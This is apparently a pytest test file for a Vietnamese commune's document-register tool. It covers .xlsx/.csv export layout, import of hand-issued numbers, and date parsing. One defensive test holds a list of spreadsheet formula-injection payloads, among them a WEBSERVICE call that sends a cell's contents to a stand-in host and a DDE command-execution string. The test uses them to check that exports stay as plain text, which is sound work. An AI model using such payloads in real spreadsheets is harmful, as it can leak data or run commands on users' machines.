"""The printable register (export to .xlsx/.csv) and the import of numbers issued by hand."""

from __future__ import annotations

import csv
import subprocess
import zipfile
from collections.abc import Callable, Iterator
from datetime import date, datetime
from pathlib import Path

import pytest
from click.testing import CliRunner
from lxml import etree
from openpyxl import Workbook, load_workbook

from docgen.archive import Archive
from docgen.archive.register import CHAIN_LABEL, TYPE_CODES, agency_of
from docgen.cli import main
from docgen.errors import DocgenError
from docgen.forms import load_form
from docgen.models import PL3_ABBREVIATIONS, CoQuan, DoKhan, VanBan
from docgen.ooxml import SML
from docgen.pdf import find_soffice

REPO = Path(__file__).resolve().parents[1]
GIA_HAN = REPO / "data" / "forms" / "gia-han-ky-nang-so.yaml"

Opener = Callable[..., Archive]

EXPECTED_COLUMNS = [
    "Số, ký hiệu văn bản", "Ngày tháng văn bản", "Tên loại và trích yếu nội dung", "Người ký",
    "Nơi nhận văn bản", "Đơn vị, người nhận bản lưu", "Số lượng bản", "Ngày chuyển", "Ký nhận",
    "Ghi chú",
]


def doc(ngay: date, **update: object) -> VanBan:
    """The gia hạn công văn, dated, with fields changed."""
    return load_form(GIA_HAN).model_copy(update={"ngay": ngay, "nam": None, **update})


@pytest.fixture
def archive(register: str) -> Iterator[Archive]:
    """An archive (on each backend) with three documents in 2026 and one in 2025."""
    archive = Archive(register)
    archive.issue(doc(date(2025, 12, 30)))
    archive.issue(doc(date(2026, 1, 2)))
    archive.issue(doc(date(2026, 1, 5), kinh_gui=["Trưởng thôn Tân Sang"], so_ban=3,
                      noi_nhan=[]))
    archive.issue(doc(date(2026, 1, 6), do_khan=DoKhan.KHAN))
    yield archive
    archive.close()


def header_and_rows(path: Path) -> tuple[list[object], list[list[object]]]:
    """The header row and the register rows (up to the blank row before the chain line)."""
    sheet = load_workbook(path).active
    rows = [list(r) for r in sheet.iter_rows(values_only=True)]
    body = rows[4:]
    end = next((i for i, r in enumerate(body) if all(v is None for v in r)), len(body))
    return rows[3], body[:end]


def chain_line(path: Path) -> str:
    """The line under the table that prints the register's chain head."""
    sheet = load_workbook(path).active
    found = [c.value for row in sheet.iter_rows() for c in row
             if isinstance(c.value, str) and c.value.startswith(CHAIN_LABEL)]
    assert len(found) == 1
    return found[0]


# ----------------------------------------------------------------------------------- export


def test_xlsx_has_exactly_the_ten_columns_and_the_rows_of_the_year(
        archive: Archive, tmp_path: Path) -> None:
    out = tmp_path / "so-2026.xlsx"
    assert archive.export_register(2026, out) == 3
    sheet = load_workbook(out).active
    assert sheet.max_column == 10
    assert sheet["A2"].value == "SỔ ĐĂNG KÝ VĂN BẢN ĐI" and sheet["A3"].value == "Năm 2026"
    assert sheet["A1"].value == "ỦY BAN NHÂN DÂN XÃ SA THẦY"
    header, rows = header_and_rows(out)
    assert header == EXPECTED_COLUMNS
    assert [r[0] for r in rows] == ["01/UBND-VHXH", "02/UBND-VHXH", "03/UBND-VHXH"]
    assert rows[0][1] == datetime(2026, 1, 2)
    assert rows[0][2].startswith("Công văn\nV/v gia hạn thời gian")
    assert rows[0][3] == "Võ Thị Kim Dung"
    assert rows[0][4].startswith("- Văn phòng Đảng ủy xã\n")
    assert rows[0][4].endswith("- Chủ tịch, các PCT UBND xã")
    assert rows[1][4] == "Trưởng thôn Tân Sang"  # one recipient: no dash
    assert rows[0][5] == "VT, PVHXH"
    assert (rows[0][6], rows[1][6]) == (None, 3)
    assert rows[2][9] == "Khẩn"
    assert all(r[7] is None and r[8] is None for r in rows)  # filled by hand on paper
    # The chain head under the table anchors the printed register (issue 13 item 4).
    head = archive.chain_head()
    assert head.count == 4 and chain_line(out).startswith(f"{CHAIN_LABEL} đến dòng thứ 4, in lúc")
    assert chain_line(out).endswith(f"docgen archive verify --moc 4:{head.hash}")


def test_xlsx_is_laid_out_for_printing(archive: Archive, tmp_path: Path) -> None:
    out = tmp_path / "so.xlsx"
    archive.export_register(2026, out)
    sheet = load_workbook(out).active
    assert sheet.page_setup.orientation == "landscape"
    assert int(sheet.page_setup.paperSize) == 9  # A4
    assert sheet.sheet_properties.pageSetUpPr.fitToPage
    assert int(sheet.page_setup.fitToWidth) == 1 and int(sheet.page_setup.fitToHeight) == 0
    assert sheet.print_title_rows == "$4:$4"
    for row in sheet.iter_rows(min_row=4, max_row=7):
        for cell in row:
            assert cell.font.name == "Times New Roman"
            assert cell.alignment.wrap_text
    # Row heights grow with the wrapped text so nothing is cut off on paper.
    assert sheet.row_dimensions[5].height > sheet.row_dimensions[6].height >= 15


def test_xlsx_normal_style_is_times_new_roman(archive: Archive, tmp_path: Path) -> None:
    # Column widths are counted in digits of the Normal style's font: with Calibri, LibreOffice
    # on a machine without it prints the register smaller.
    out = tmp_path / "so.xlsx"
    archive.export_register(2026, out)
    with zipfile.ZipFile(out) as package:
        styles = etree.fromstring(package.read("xl/styles.xml"))
    ns = {"s": SML}
    (normal,) = styles.xpath("s:cellStyles/s:cellStyle[@builtinId='0']", namespaces=ns)
    xf = styles.xpath("s:cellStyleXfs/s:xf", namespaces=ns)[int(normal.get("xfId"))]
    font = styles.xpath("s:fonts/s:font", namespaces=ns)[int(xf.get("fontId"))]
    assert font.xpath("s:name/@val", namespaces=ns) == ["Times New Roman"]
    assert font.xpath("s:sz/@val", namespaces=ns) == ["11"]
    assert font.xpath("s:scheme", namespaces=ns) == []  # else Excel uses the theme's font
    assert load_workbook(out).active["A5"].value == "01/UBND-VHXH"


def test_csv_has_the_ten_columns(archive: Archive, tmp_path: Path) -> None:
    out = tmp_path / "so.csv"
    archive.export_register(2026, out, csv=True)
    assert out.read_bytes().startswith(b"\xef\xbb\xbf")  # BOM: Excel reads it as UTF-8
    rows = list(csv.reader(out.read_text("utf-8-sig").splitlines(keepends=True)))
    assert rows[0] == EXPECTED_COLUMNS
    assert [r[:2] for r in rows[1:-1]] == [["01/UBND-VHXH", "02/01/2026"],
                                           ["02/UBND-VHXH", "05/01/2026"],
                                           ["03/UBND-VHXH", "06/01/2026"]]
    assert rows[-1][0].startswith(CHAIN_LABEL)
    assert rows[-1][0].endswith(f"--moc {archive.chain_head().anchor}")


HOSTILE = ['=WEBSERVICE("http://x.invalid/?"&C5)', '=HYPERLINK("http://x.invalid","a")',
           "cmd|' /C notepad'!A0", "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]


def test_export_never_writes_a_live_formula(register: str, open_archive: Opener,
                                            tmp_path: Path) -> None:
    # Issue 13 item 1: a signer or trích yếu that looks like a formula stays text.
    archive = open_archive(register)
    for value in HOSTILE:
        archive.issue(doc(date(2026, 2, 2), kinh_gui=[value.strip()], noi_nhan=["Như trên"]))
    out = tmp_path / "so.xlsx"
    archive.export_register(2026, out)
    with zipfile.ZipFile(out) as package:
        sheet_xml = package.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet_xml  # no formula anywhere
    sheet = load_workbook(out).active
    recipients = [e.nguoi_nhan_text for e in archive.entries()]
    assert sum(text[0] in "=+-@" for text in recipients) >= 5  # what the model let through
    texts = [sheet.cell(row=r, column=5).value for r in range(5, 5 + len(HOSTILE))]
    assert texts == recipients
    assert all(sheet.cell(row=r, column=5).quotePrefix for r in range(5, 5 + len(HOSTILE))
               if texts[r - 5][0] in "=+-@")

    out_csv = tmp_path / "so.csv"
    archive.export_register(2026, out_csv, csv=True)
    rows = list(csv.reader(out_csv.read_text("utf-8-sig").splitlines(keepends=True)))
    assert [row[4] for row in rows[1:-1]] == [
        f"'{text}" if text[0] in "=+-@" else text for text in recipients]
    # An export imported again gives back the values, without the apostrophe.
    other = open_archive(tmp_path / "kho-moi")
    other.import_register(out_csv)
    assert [e.noi_nhan for e in other.entries()] == [(text,) for text in recipients]


def test_import_cleans_control_characters_so_the_year_can_always_be_exported(
        register: str, open_archive: Opener, tmp_path: Path) -> None:
    # Issue 13 item 5: a control character once made the year's register unexportable.
    path = tmp_path / "so-cu.csv"
    path.write_text("Số, ký hiệu văn bản;Ngày tháng văn bản;Tên loại và trích yếu nội dung;"
                    "Người ký\n01/UBND-VHXH;05/01/2026;Báo\x01 cáo\x1b[31m đỏ;Nguyễn\x07 An\n",
                    encoding="utf-8")
    archive = open_archive(register)
    archive.import_register(path)
    (entry,) = archive.entries()
    assert (entry.trich_yeu, entry.nguoi_ky) == ("Báo cáo[31m đỏ", "Nguyễn An")
    out = tmp_path / "so.xlsx"
    assert archive.export_register(2026, out) == 1
    assert header_and_rows(out)[1][0][2] == "Báo cáo[31m đỏ"


def test_cli_export_defaults_to_this_year_and_refuses_to_overwrite(
        archive: Archive, register: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    runner = CliRunner()
    args = ["archive", "export", "--archive", register]
    first = runner.invoke(main, [*args, "--nam", "2025"])
    assert first.exit_code == 0, first.output
    assert "(1 văn bản)" in first.output
    assert header_and_rows(tmp_path / "so-dang-ky-2025.xlsx")[1][0][0] == "01/UBND-VHXH"
    again = runner.invoke(main, [*args, "--nam", "2025"])
    assert again.exit_code == 2 and "không ghi đè" in again.output
    wrong = runner.invoke(main, [*args, "--csv", "-o", "so.xlsx"])
    assert wrong.exit_code == 2 and "đuôi .csv" in wrong.output


def test_export_of_several_agencies_needs_co_quan(archive: Archive, tmp_path: Path) -> None:
    hdnd = CoQuan(ten=["HỘI ĐỒNG NHÂN DÂN"], viet_tat="HĐND")
    archive.issue(doc(date(2026, 2, 1), co_quan=hdnd))
    with pytest.raises(DocgenError) as info:
        archive.export_register(2026, tmp_path / "x.xlsx")
    assert "HĐND, UBND" in info.value.problems[0].message
    assert not (tmp_path / "x.xlsx").exists()
    assert archive.export_register(2026, tmp_path / "x.xlsx", co_quan="HĐND") == 1


@pytest.mark.slow
def test_exported_register_prints_on_a4_landscape_with_the_header_on_every_page(
        tmp_path: Path) -> None:
    if find_soffice() is None:
        pytest.skip("LibreOffice (soffice) is not installed")
    from docgen.pdf import convert

    archive = Archive(tmp_path / "luu-tru")
    archive.issue_many([doc(date(2026, 3, 1))] * 12)
    xlsx = tmp_path / "so-dang-ky-2026.xlsx"
    archive.export_register(2026, xlsx)
    (pdf,) = convert([xlsx], tmp_path / "pdf")
    info = subprocess.run(["pdfinfo", str(pdf)], capture_output=True, text=True,
                          check=True).stdout
    size = next(line for line in info.splitlines() if line.startswith("Page size"))
    width, height = (float(v) for v in size.split(":")[1].split("pts")[0].split(" x "))
    assert (round(width), round(height)) == (842, 595)  # A4, landscape
    pages = int(next(line for line in info.splitlines() if line.startswith("Pages")).split()[1])
    assert pages >= 2
    for page in (1, pages):
        text = subprocess.run(["pdftotext", "-f", str(page), "-l", str(page), str(pdf), "-"],
                              capture_output=True, text=True, check=True).stdout
        assert "Số, ký hiệu văn" in text and "Ký nhận" in text
    everything = subprocess.run(["pdftotext", str(pdf), "-"], capture_output=True, text=True,
                                check=True).stdout
    assert "12/UBND-VHXH" in everything


# ----------------------------------------------------------------------------------- import


def hand_register(path: Path, rows: list[list[object]], *, title_rows: int = 2) -> Path:
    """An .xlsx like a commune's hand-kept register: a title, the header, a number row."""
    book = Workbook()
    sheet = book.active
    for _ in range(title_rows):
        sheet.append(["SỔ ĐĂNG KÝ VĂN BẢN ĐI"])
    sheet.append(EXPECTED_COLUMNS)
    sheet.append([f"({i})" for i in range(1, 11)])
    for row in rows:
        sheet.append(row)
    book.save(path)
    return path


def test_import_then_issue_continues_after_the_highest_imported_number(tmp_path: Path,
        register: str, open_archive: Opener) -> None:
    rows: list[list[object]] = [
        [f"{n:02d}/UBND-VHXH", datetime(2026, 1, n % 28 + 1), f"Công văn số {n}", "Võ Thị Kim Dung",
         "Các thôn", "VT", 2, None, None, None]
        for n in (1, 2, 3, 5, 8)
    ]
    rows.append(["12/QĐ-UBND", "15/02/2026", "Quyết định khen thưởng", None, None, None, None,
                 None, None, "cấp tay"])
    rows.append([None] * 10)  # blank rows are skipped
    path = hand_register(tmp_path / "so-cu.xlsx", rows)
    archive = open_archive(register, today=lambda: date(2026, 3, 1))
    (series,) = archive.import_register(path)
    assert (series.co_quan, series.nam, series.imported, series.highest, series.next) == (
        "UBND", 2026, 6, 12, 13)
    imported = archive.entries()
    assert [e.so_ky_hieu for e in imported][-1] == "12/QĐ-UBND"
    assert imported[-1].ghi_chu == "cấp tay" and imported[-1].tep is None
    entry = archive.issue(GIA_HAN)
    assert entry.so_ky_hieu == "13/UBND-VHXH"
    # Imported rows have no file: verify checks only what docgen issued.
    report = archive.verify()
    assert report.ok and report.files_checked == 2


def test_import_refuses_numbers_already_in_the_register_and_changes_nothing(
        tmp_path: Path, register: str, open_archive: Opener) -> None:
    archive = open_archive(register, today=lambda: date(2026, 3, 1))
    archive.issue(GIA_HAN)
    path = hand_register(tmp_path / "so-cu.xlsx", [
        ["02/UBND-VHXH", "01/02/2026"],
        ["01/UBND-VHXH", "03/02/2026"],
        ["03/UBND-VHXH", "05/02/2026"],
        ["03/UBND-TP", "06/02/2026"],
    ])
    with pytest.raises(DocgenError) as info:
        archive.import_register(path)
    problems = info.value.problems
    assert [(p.row, p.field) for p in problems] == [(6, EXPECTED_COLUMNS[0]),
                                                    (8, EXPECTED_COLUMNS[0])]
    assert "số 01 của UBND năm 2026 đã có trong sổ" in problems[0].message
    assert "ghi hai lần (hàng 7 và hàng 8)" in problems[1].message
    assert [e.so for e in archive.entries()] == [1]


def test_import_reports_every_bad_row_with_its_row_number(tmp_path: Path,
        register: str, open_archive: Opener) -> None:
    path = hand_register(tmp_path / "so-cu.xlsx", [
        ["05/UBND-VHXH", "31/02/2026"],
        ["UBND-VHXH", "01/02/2026"],
        ["07/UBND-VHXH", "01/02/2026"],
    ], title_rows=0)
    archive = open_archive(register)
    with pytest.raises(DocgenError) as info:
        archive.import_register(path)
    assert [(p.row, p.field) for p in info.value.problems] == [
        (3, EXPECTED_COLUMNS[1]), (4, EXPECTED_COLUMNS[0])]
    assert "'31/02/2026' không phải ngày tháng" in info.value.problems[0].message
    assert "hàng 3" in str(info.value.problems[0])
    assert not archive.exists


def test_import_reads_dates_as_clerks_type_them(tmp_path: Path,
        register: str, open_archive: Opener) -> None:
    path = hand_register(tmp_path / "so-cu.xlsx", [
        ["01/UBND-VHXH", "05.01.2026"],
        ["02/UBND-VHXH", "6-1-2026"],
        ["03/UBND-VHXH", "2026-01-07"],
        ["04/UBND-VHXH", "2026-01-08 00:00:00"],  # a date and time saved as text
        ["05/UBND-VHXH", date(2026, 1, 9)],
        ["06/UBND-VHXH", datetime(2026, 1, 10, 8, 30)],
    ])
    archive = open_archive(register)
    archive.import_register(path)
    assert [e.ngay.day for e in archive.entries()] == [5, 6, 7, 8, 9, 10]


def test_import_refuses_impossible_and_mixed_up_dates_saying_why(tmp_path: Path,
        register: str, open_archive: Opener) -> None:
    path = hand_register(tmp_path / "so-cu.xlsx", [
        ["01/UBND-VHXH", "31/02/2026"],
        ["02/UBND-VHXH", "05/02-2026"],  # accepted before parse_date: one separator per date
        ["03/UBND-VHXH", None],
    ], title_rows=0)
    with pytest.raises(DocgenError) as info:
        open_archive(register).import_register(path)
    impossible, mixed, blank = info.value.problems
    assert "không có thật" in (impossible.hint or "")
    assert "'05/02-2026' không phải ngày tháng" in mixed.message
    assert "20/11/2025" in (mixed.hint or "")
    assert blank.message == "'' không phải ngày tháng" and blank.row == 5


def test_import_reads_csv_with_semicolons_and_round_trips_an_export(
        archive: Archive, tmp_path: Path) -> None:
    out = tmp_path / "so.csv"
    archive.export_register(2026, out, csv=True)
    text = out.read_text("utf-8-sig")
    semicolons = tmp_path / "so-cham-phay.csv"
    rows = list(csv.reader(text.splitlines(keepends=True)))
    with semicolons.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle, delimiter=";").writerows(rows)

    other = Archive(tmp_path / "kho-moi")
    (series,) = other.import_register(semicolons)
    assert (series.imported, series.next) == (3, 4)
    copied = other.entries()
    assert [e.so_ky_hieu for e in copied] == [e.so_ky_hieu for e in archive.entries(nam=2026)]
    assert copied[1].noi_nhan == ("Trưởng thôn Tân Sang",) and copied[1].so_ban == 3


def test_import_without_header_explains_the_columns_it_needs(tmp_path: Path,
        register: str, open_archive: Opener) -> None:
    path = tmp_path / "so.csv"
    path.write_text("so,ngay\n1,2026-01-01\n", encoding="utf-8")
    with pytest.raises(DocgenError) as info:
        open_archive(register).import_register(path)
    assert "Số, ký hiệu văn bản" in info.value.problems[0].message
    assert "export --csv" in (info.value.problems[0].hint or "")


def test_cli_import_prints_the_next_number(tmp_path: Path,
        register: str, open_archive: Opener) -> None:
    path = hand_register(tmp_path / "so-cu.xlsx", [["41/UBND-VHXH", "10/06/2026"]])
    result = CliRunner().invoke(main, ["archive", "import", str(path), "--archive",
                                       register])
    assert result.exit_code == 0, result.output
    assert "Đã nhập 1 số của UBND năm 2026 (lớn nhất: 41). Số tiếp theo: 42." in result.output


def test_agency_of_a_ky_hieu() -> None:
    assert agency_of("UBND-VHXH") == "UBND"
    assert agency_of("QĐ-UBND") == "UBND"
    assert agency_of("TTr-UBND") == "UBND"
    assert agency_of("UBND") == "UBND"


def test_type_codes_are_phu_luc_iii_and_the_kinds_of_copy() -> None:
    assert frozenset(PL3_ABBREVIATIONS.values()) < TYPE_CODES
    assert TYPE_CODES - frozenset(PL3_ABBREVIATIONS.values()) == {"SY", "TrS", "SL"}
    assert agency_of("SY-UBND") == "UBND"
    assert agency_of("QyĐ-HĐND") == "HĐND"
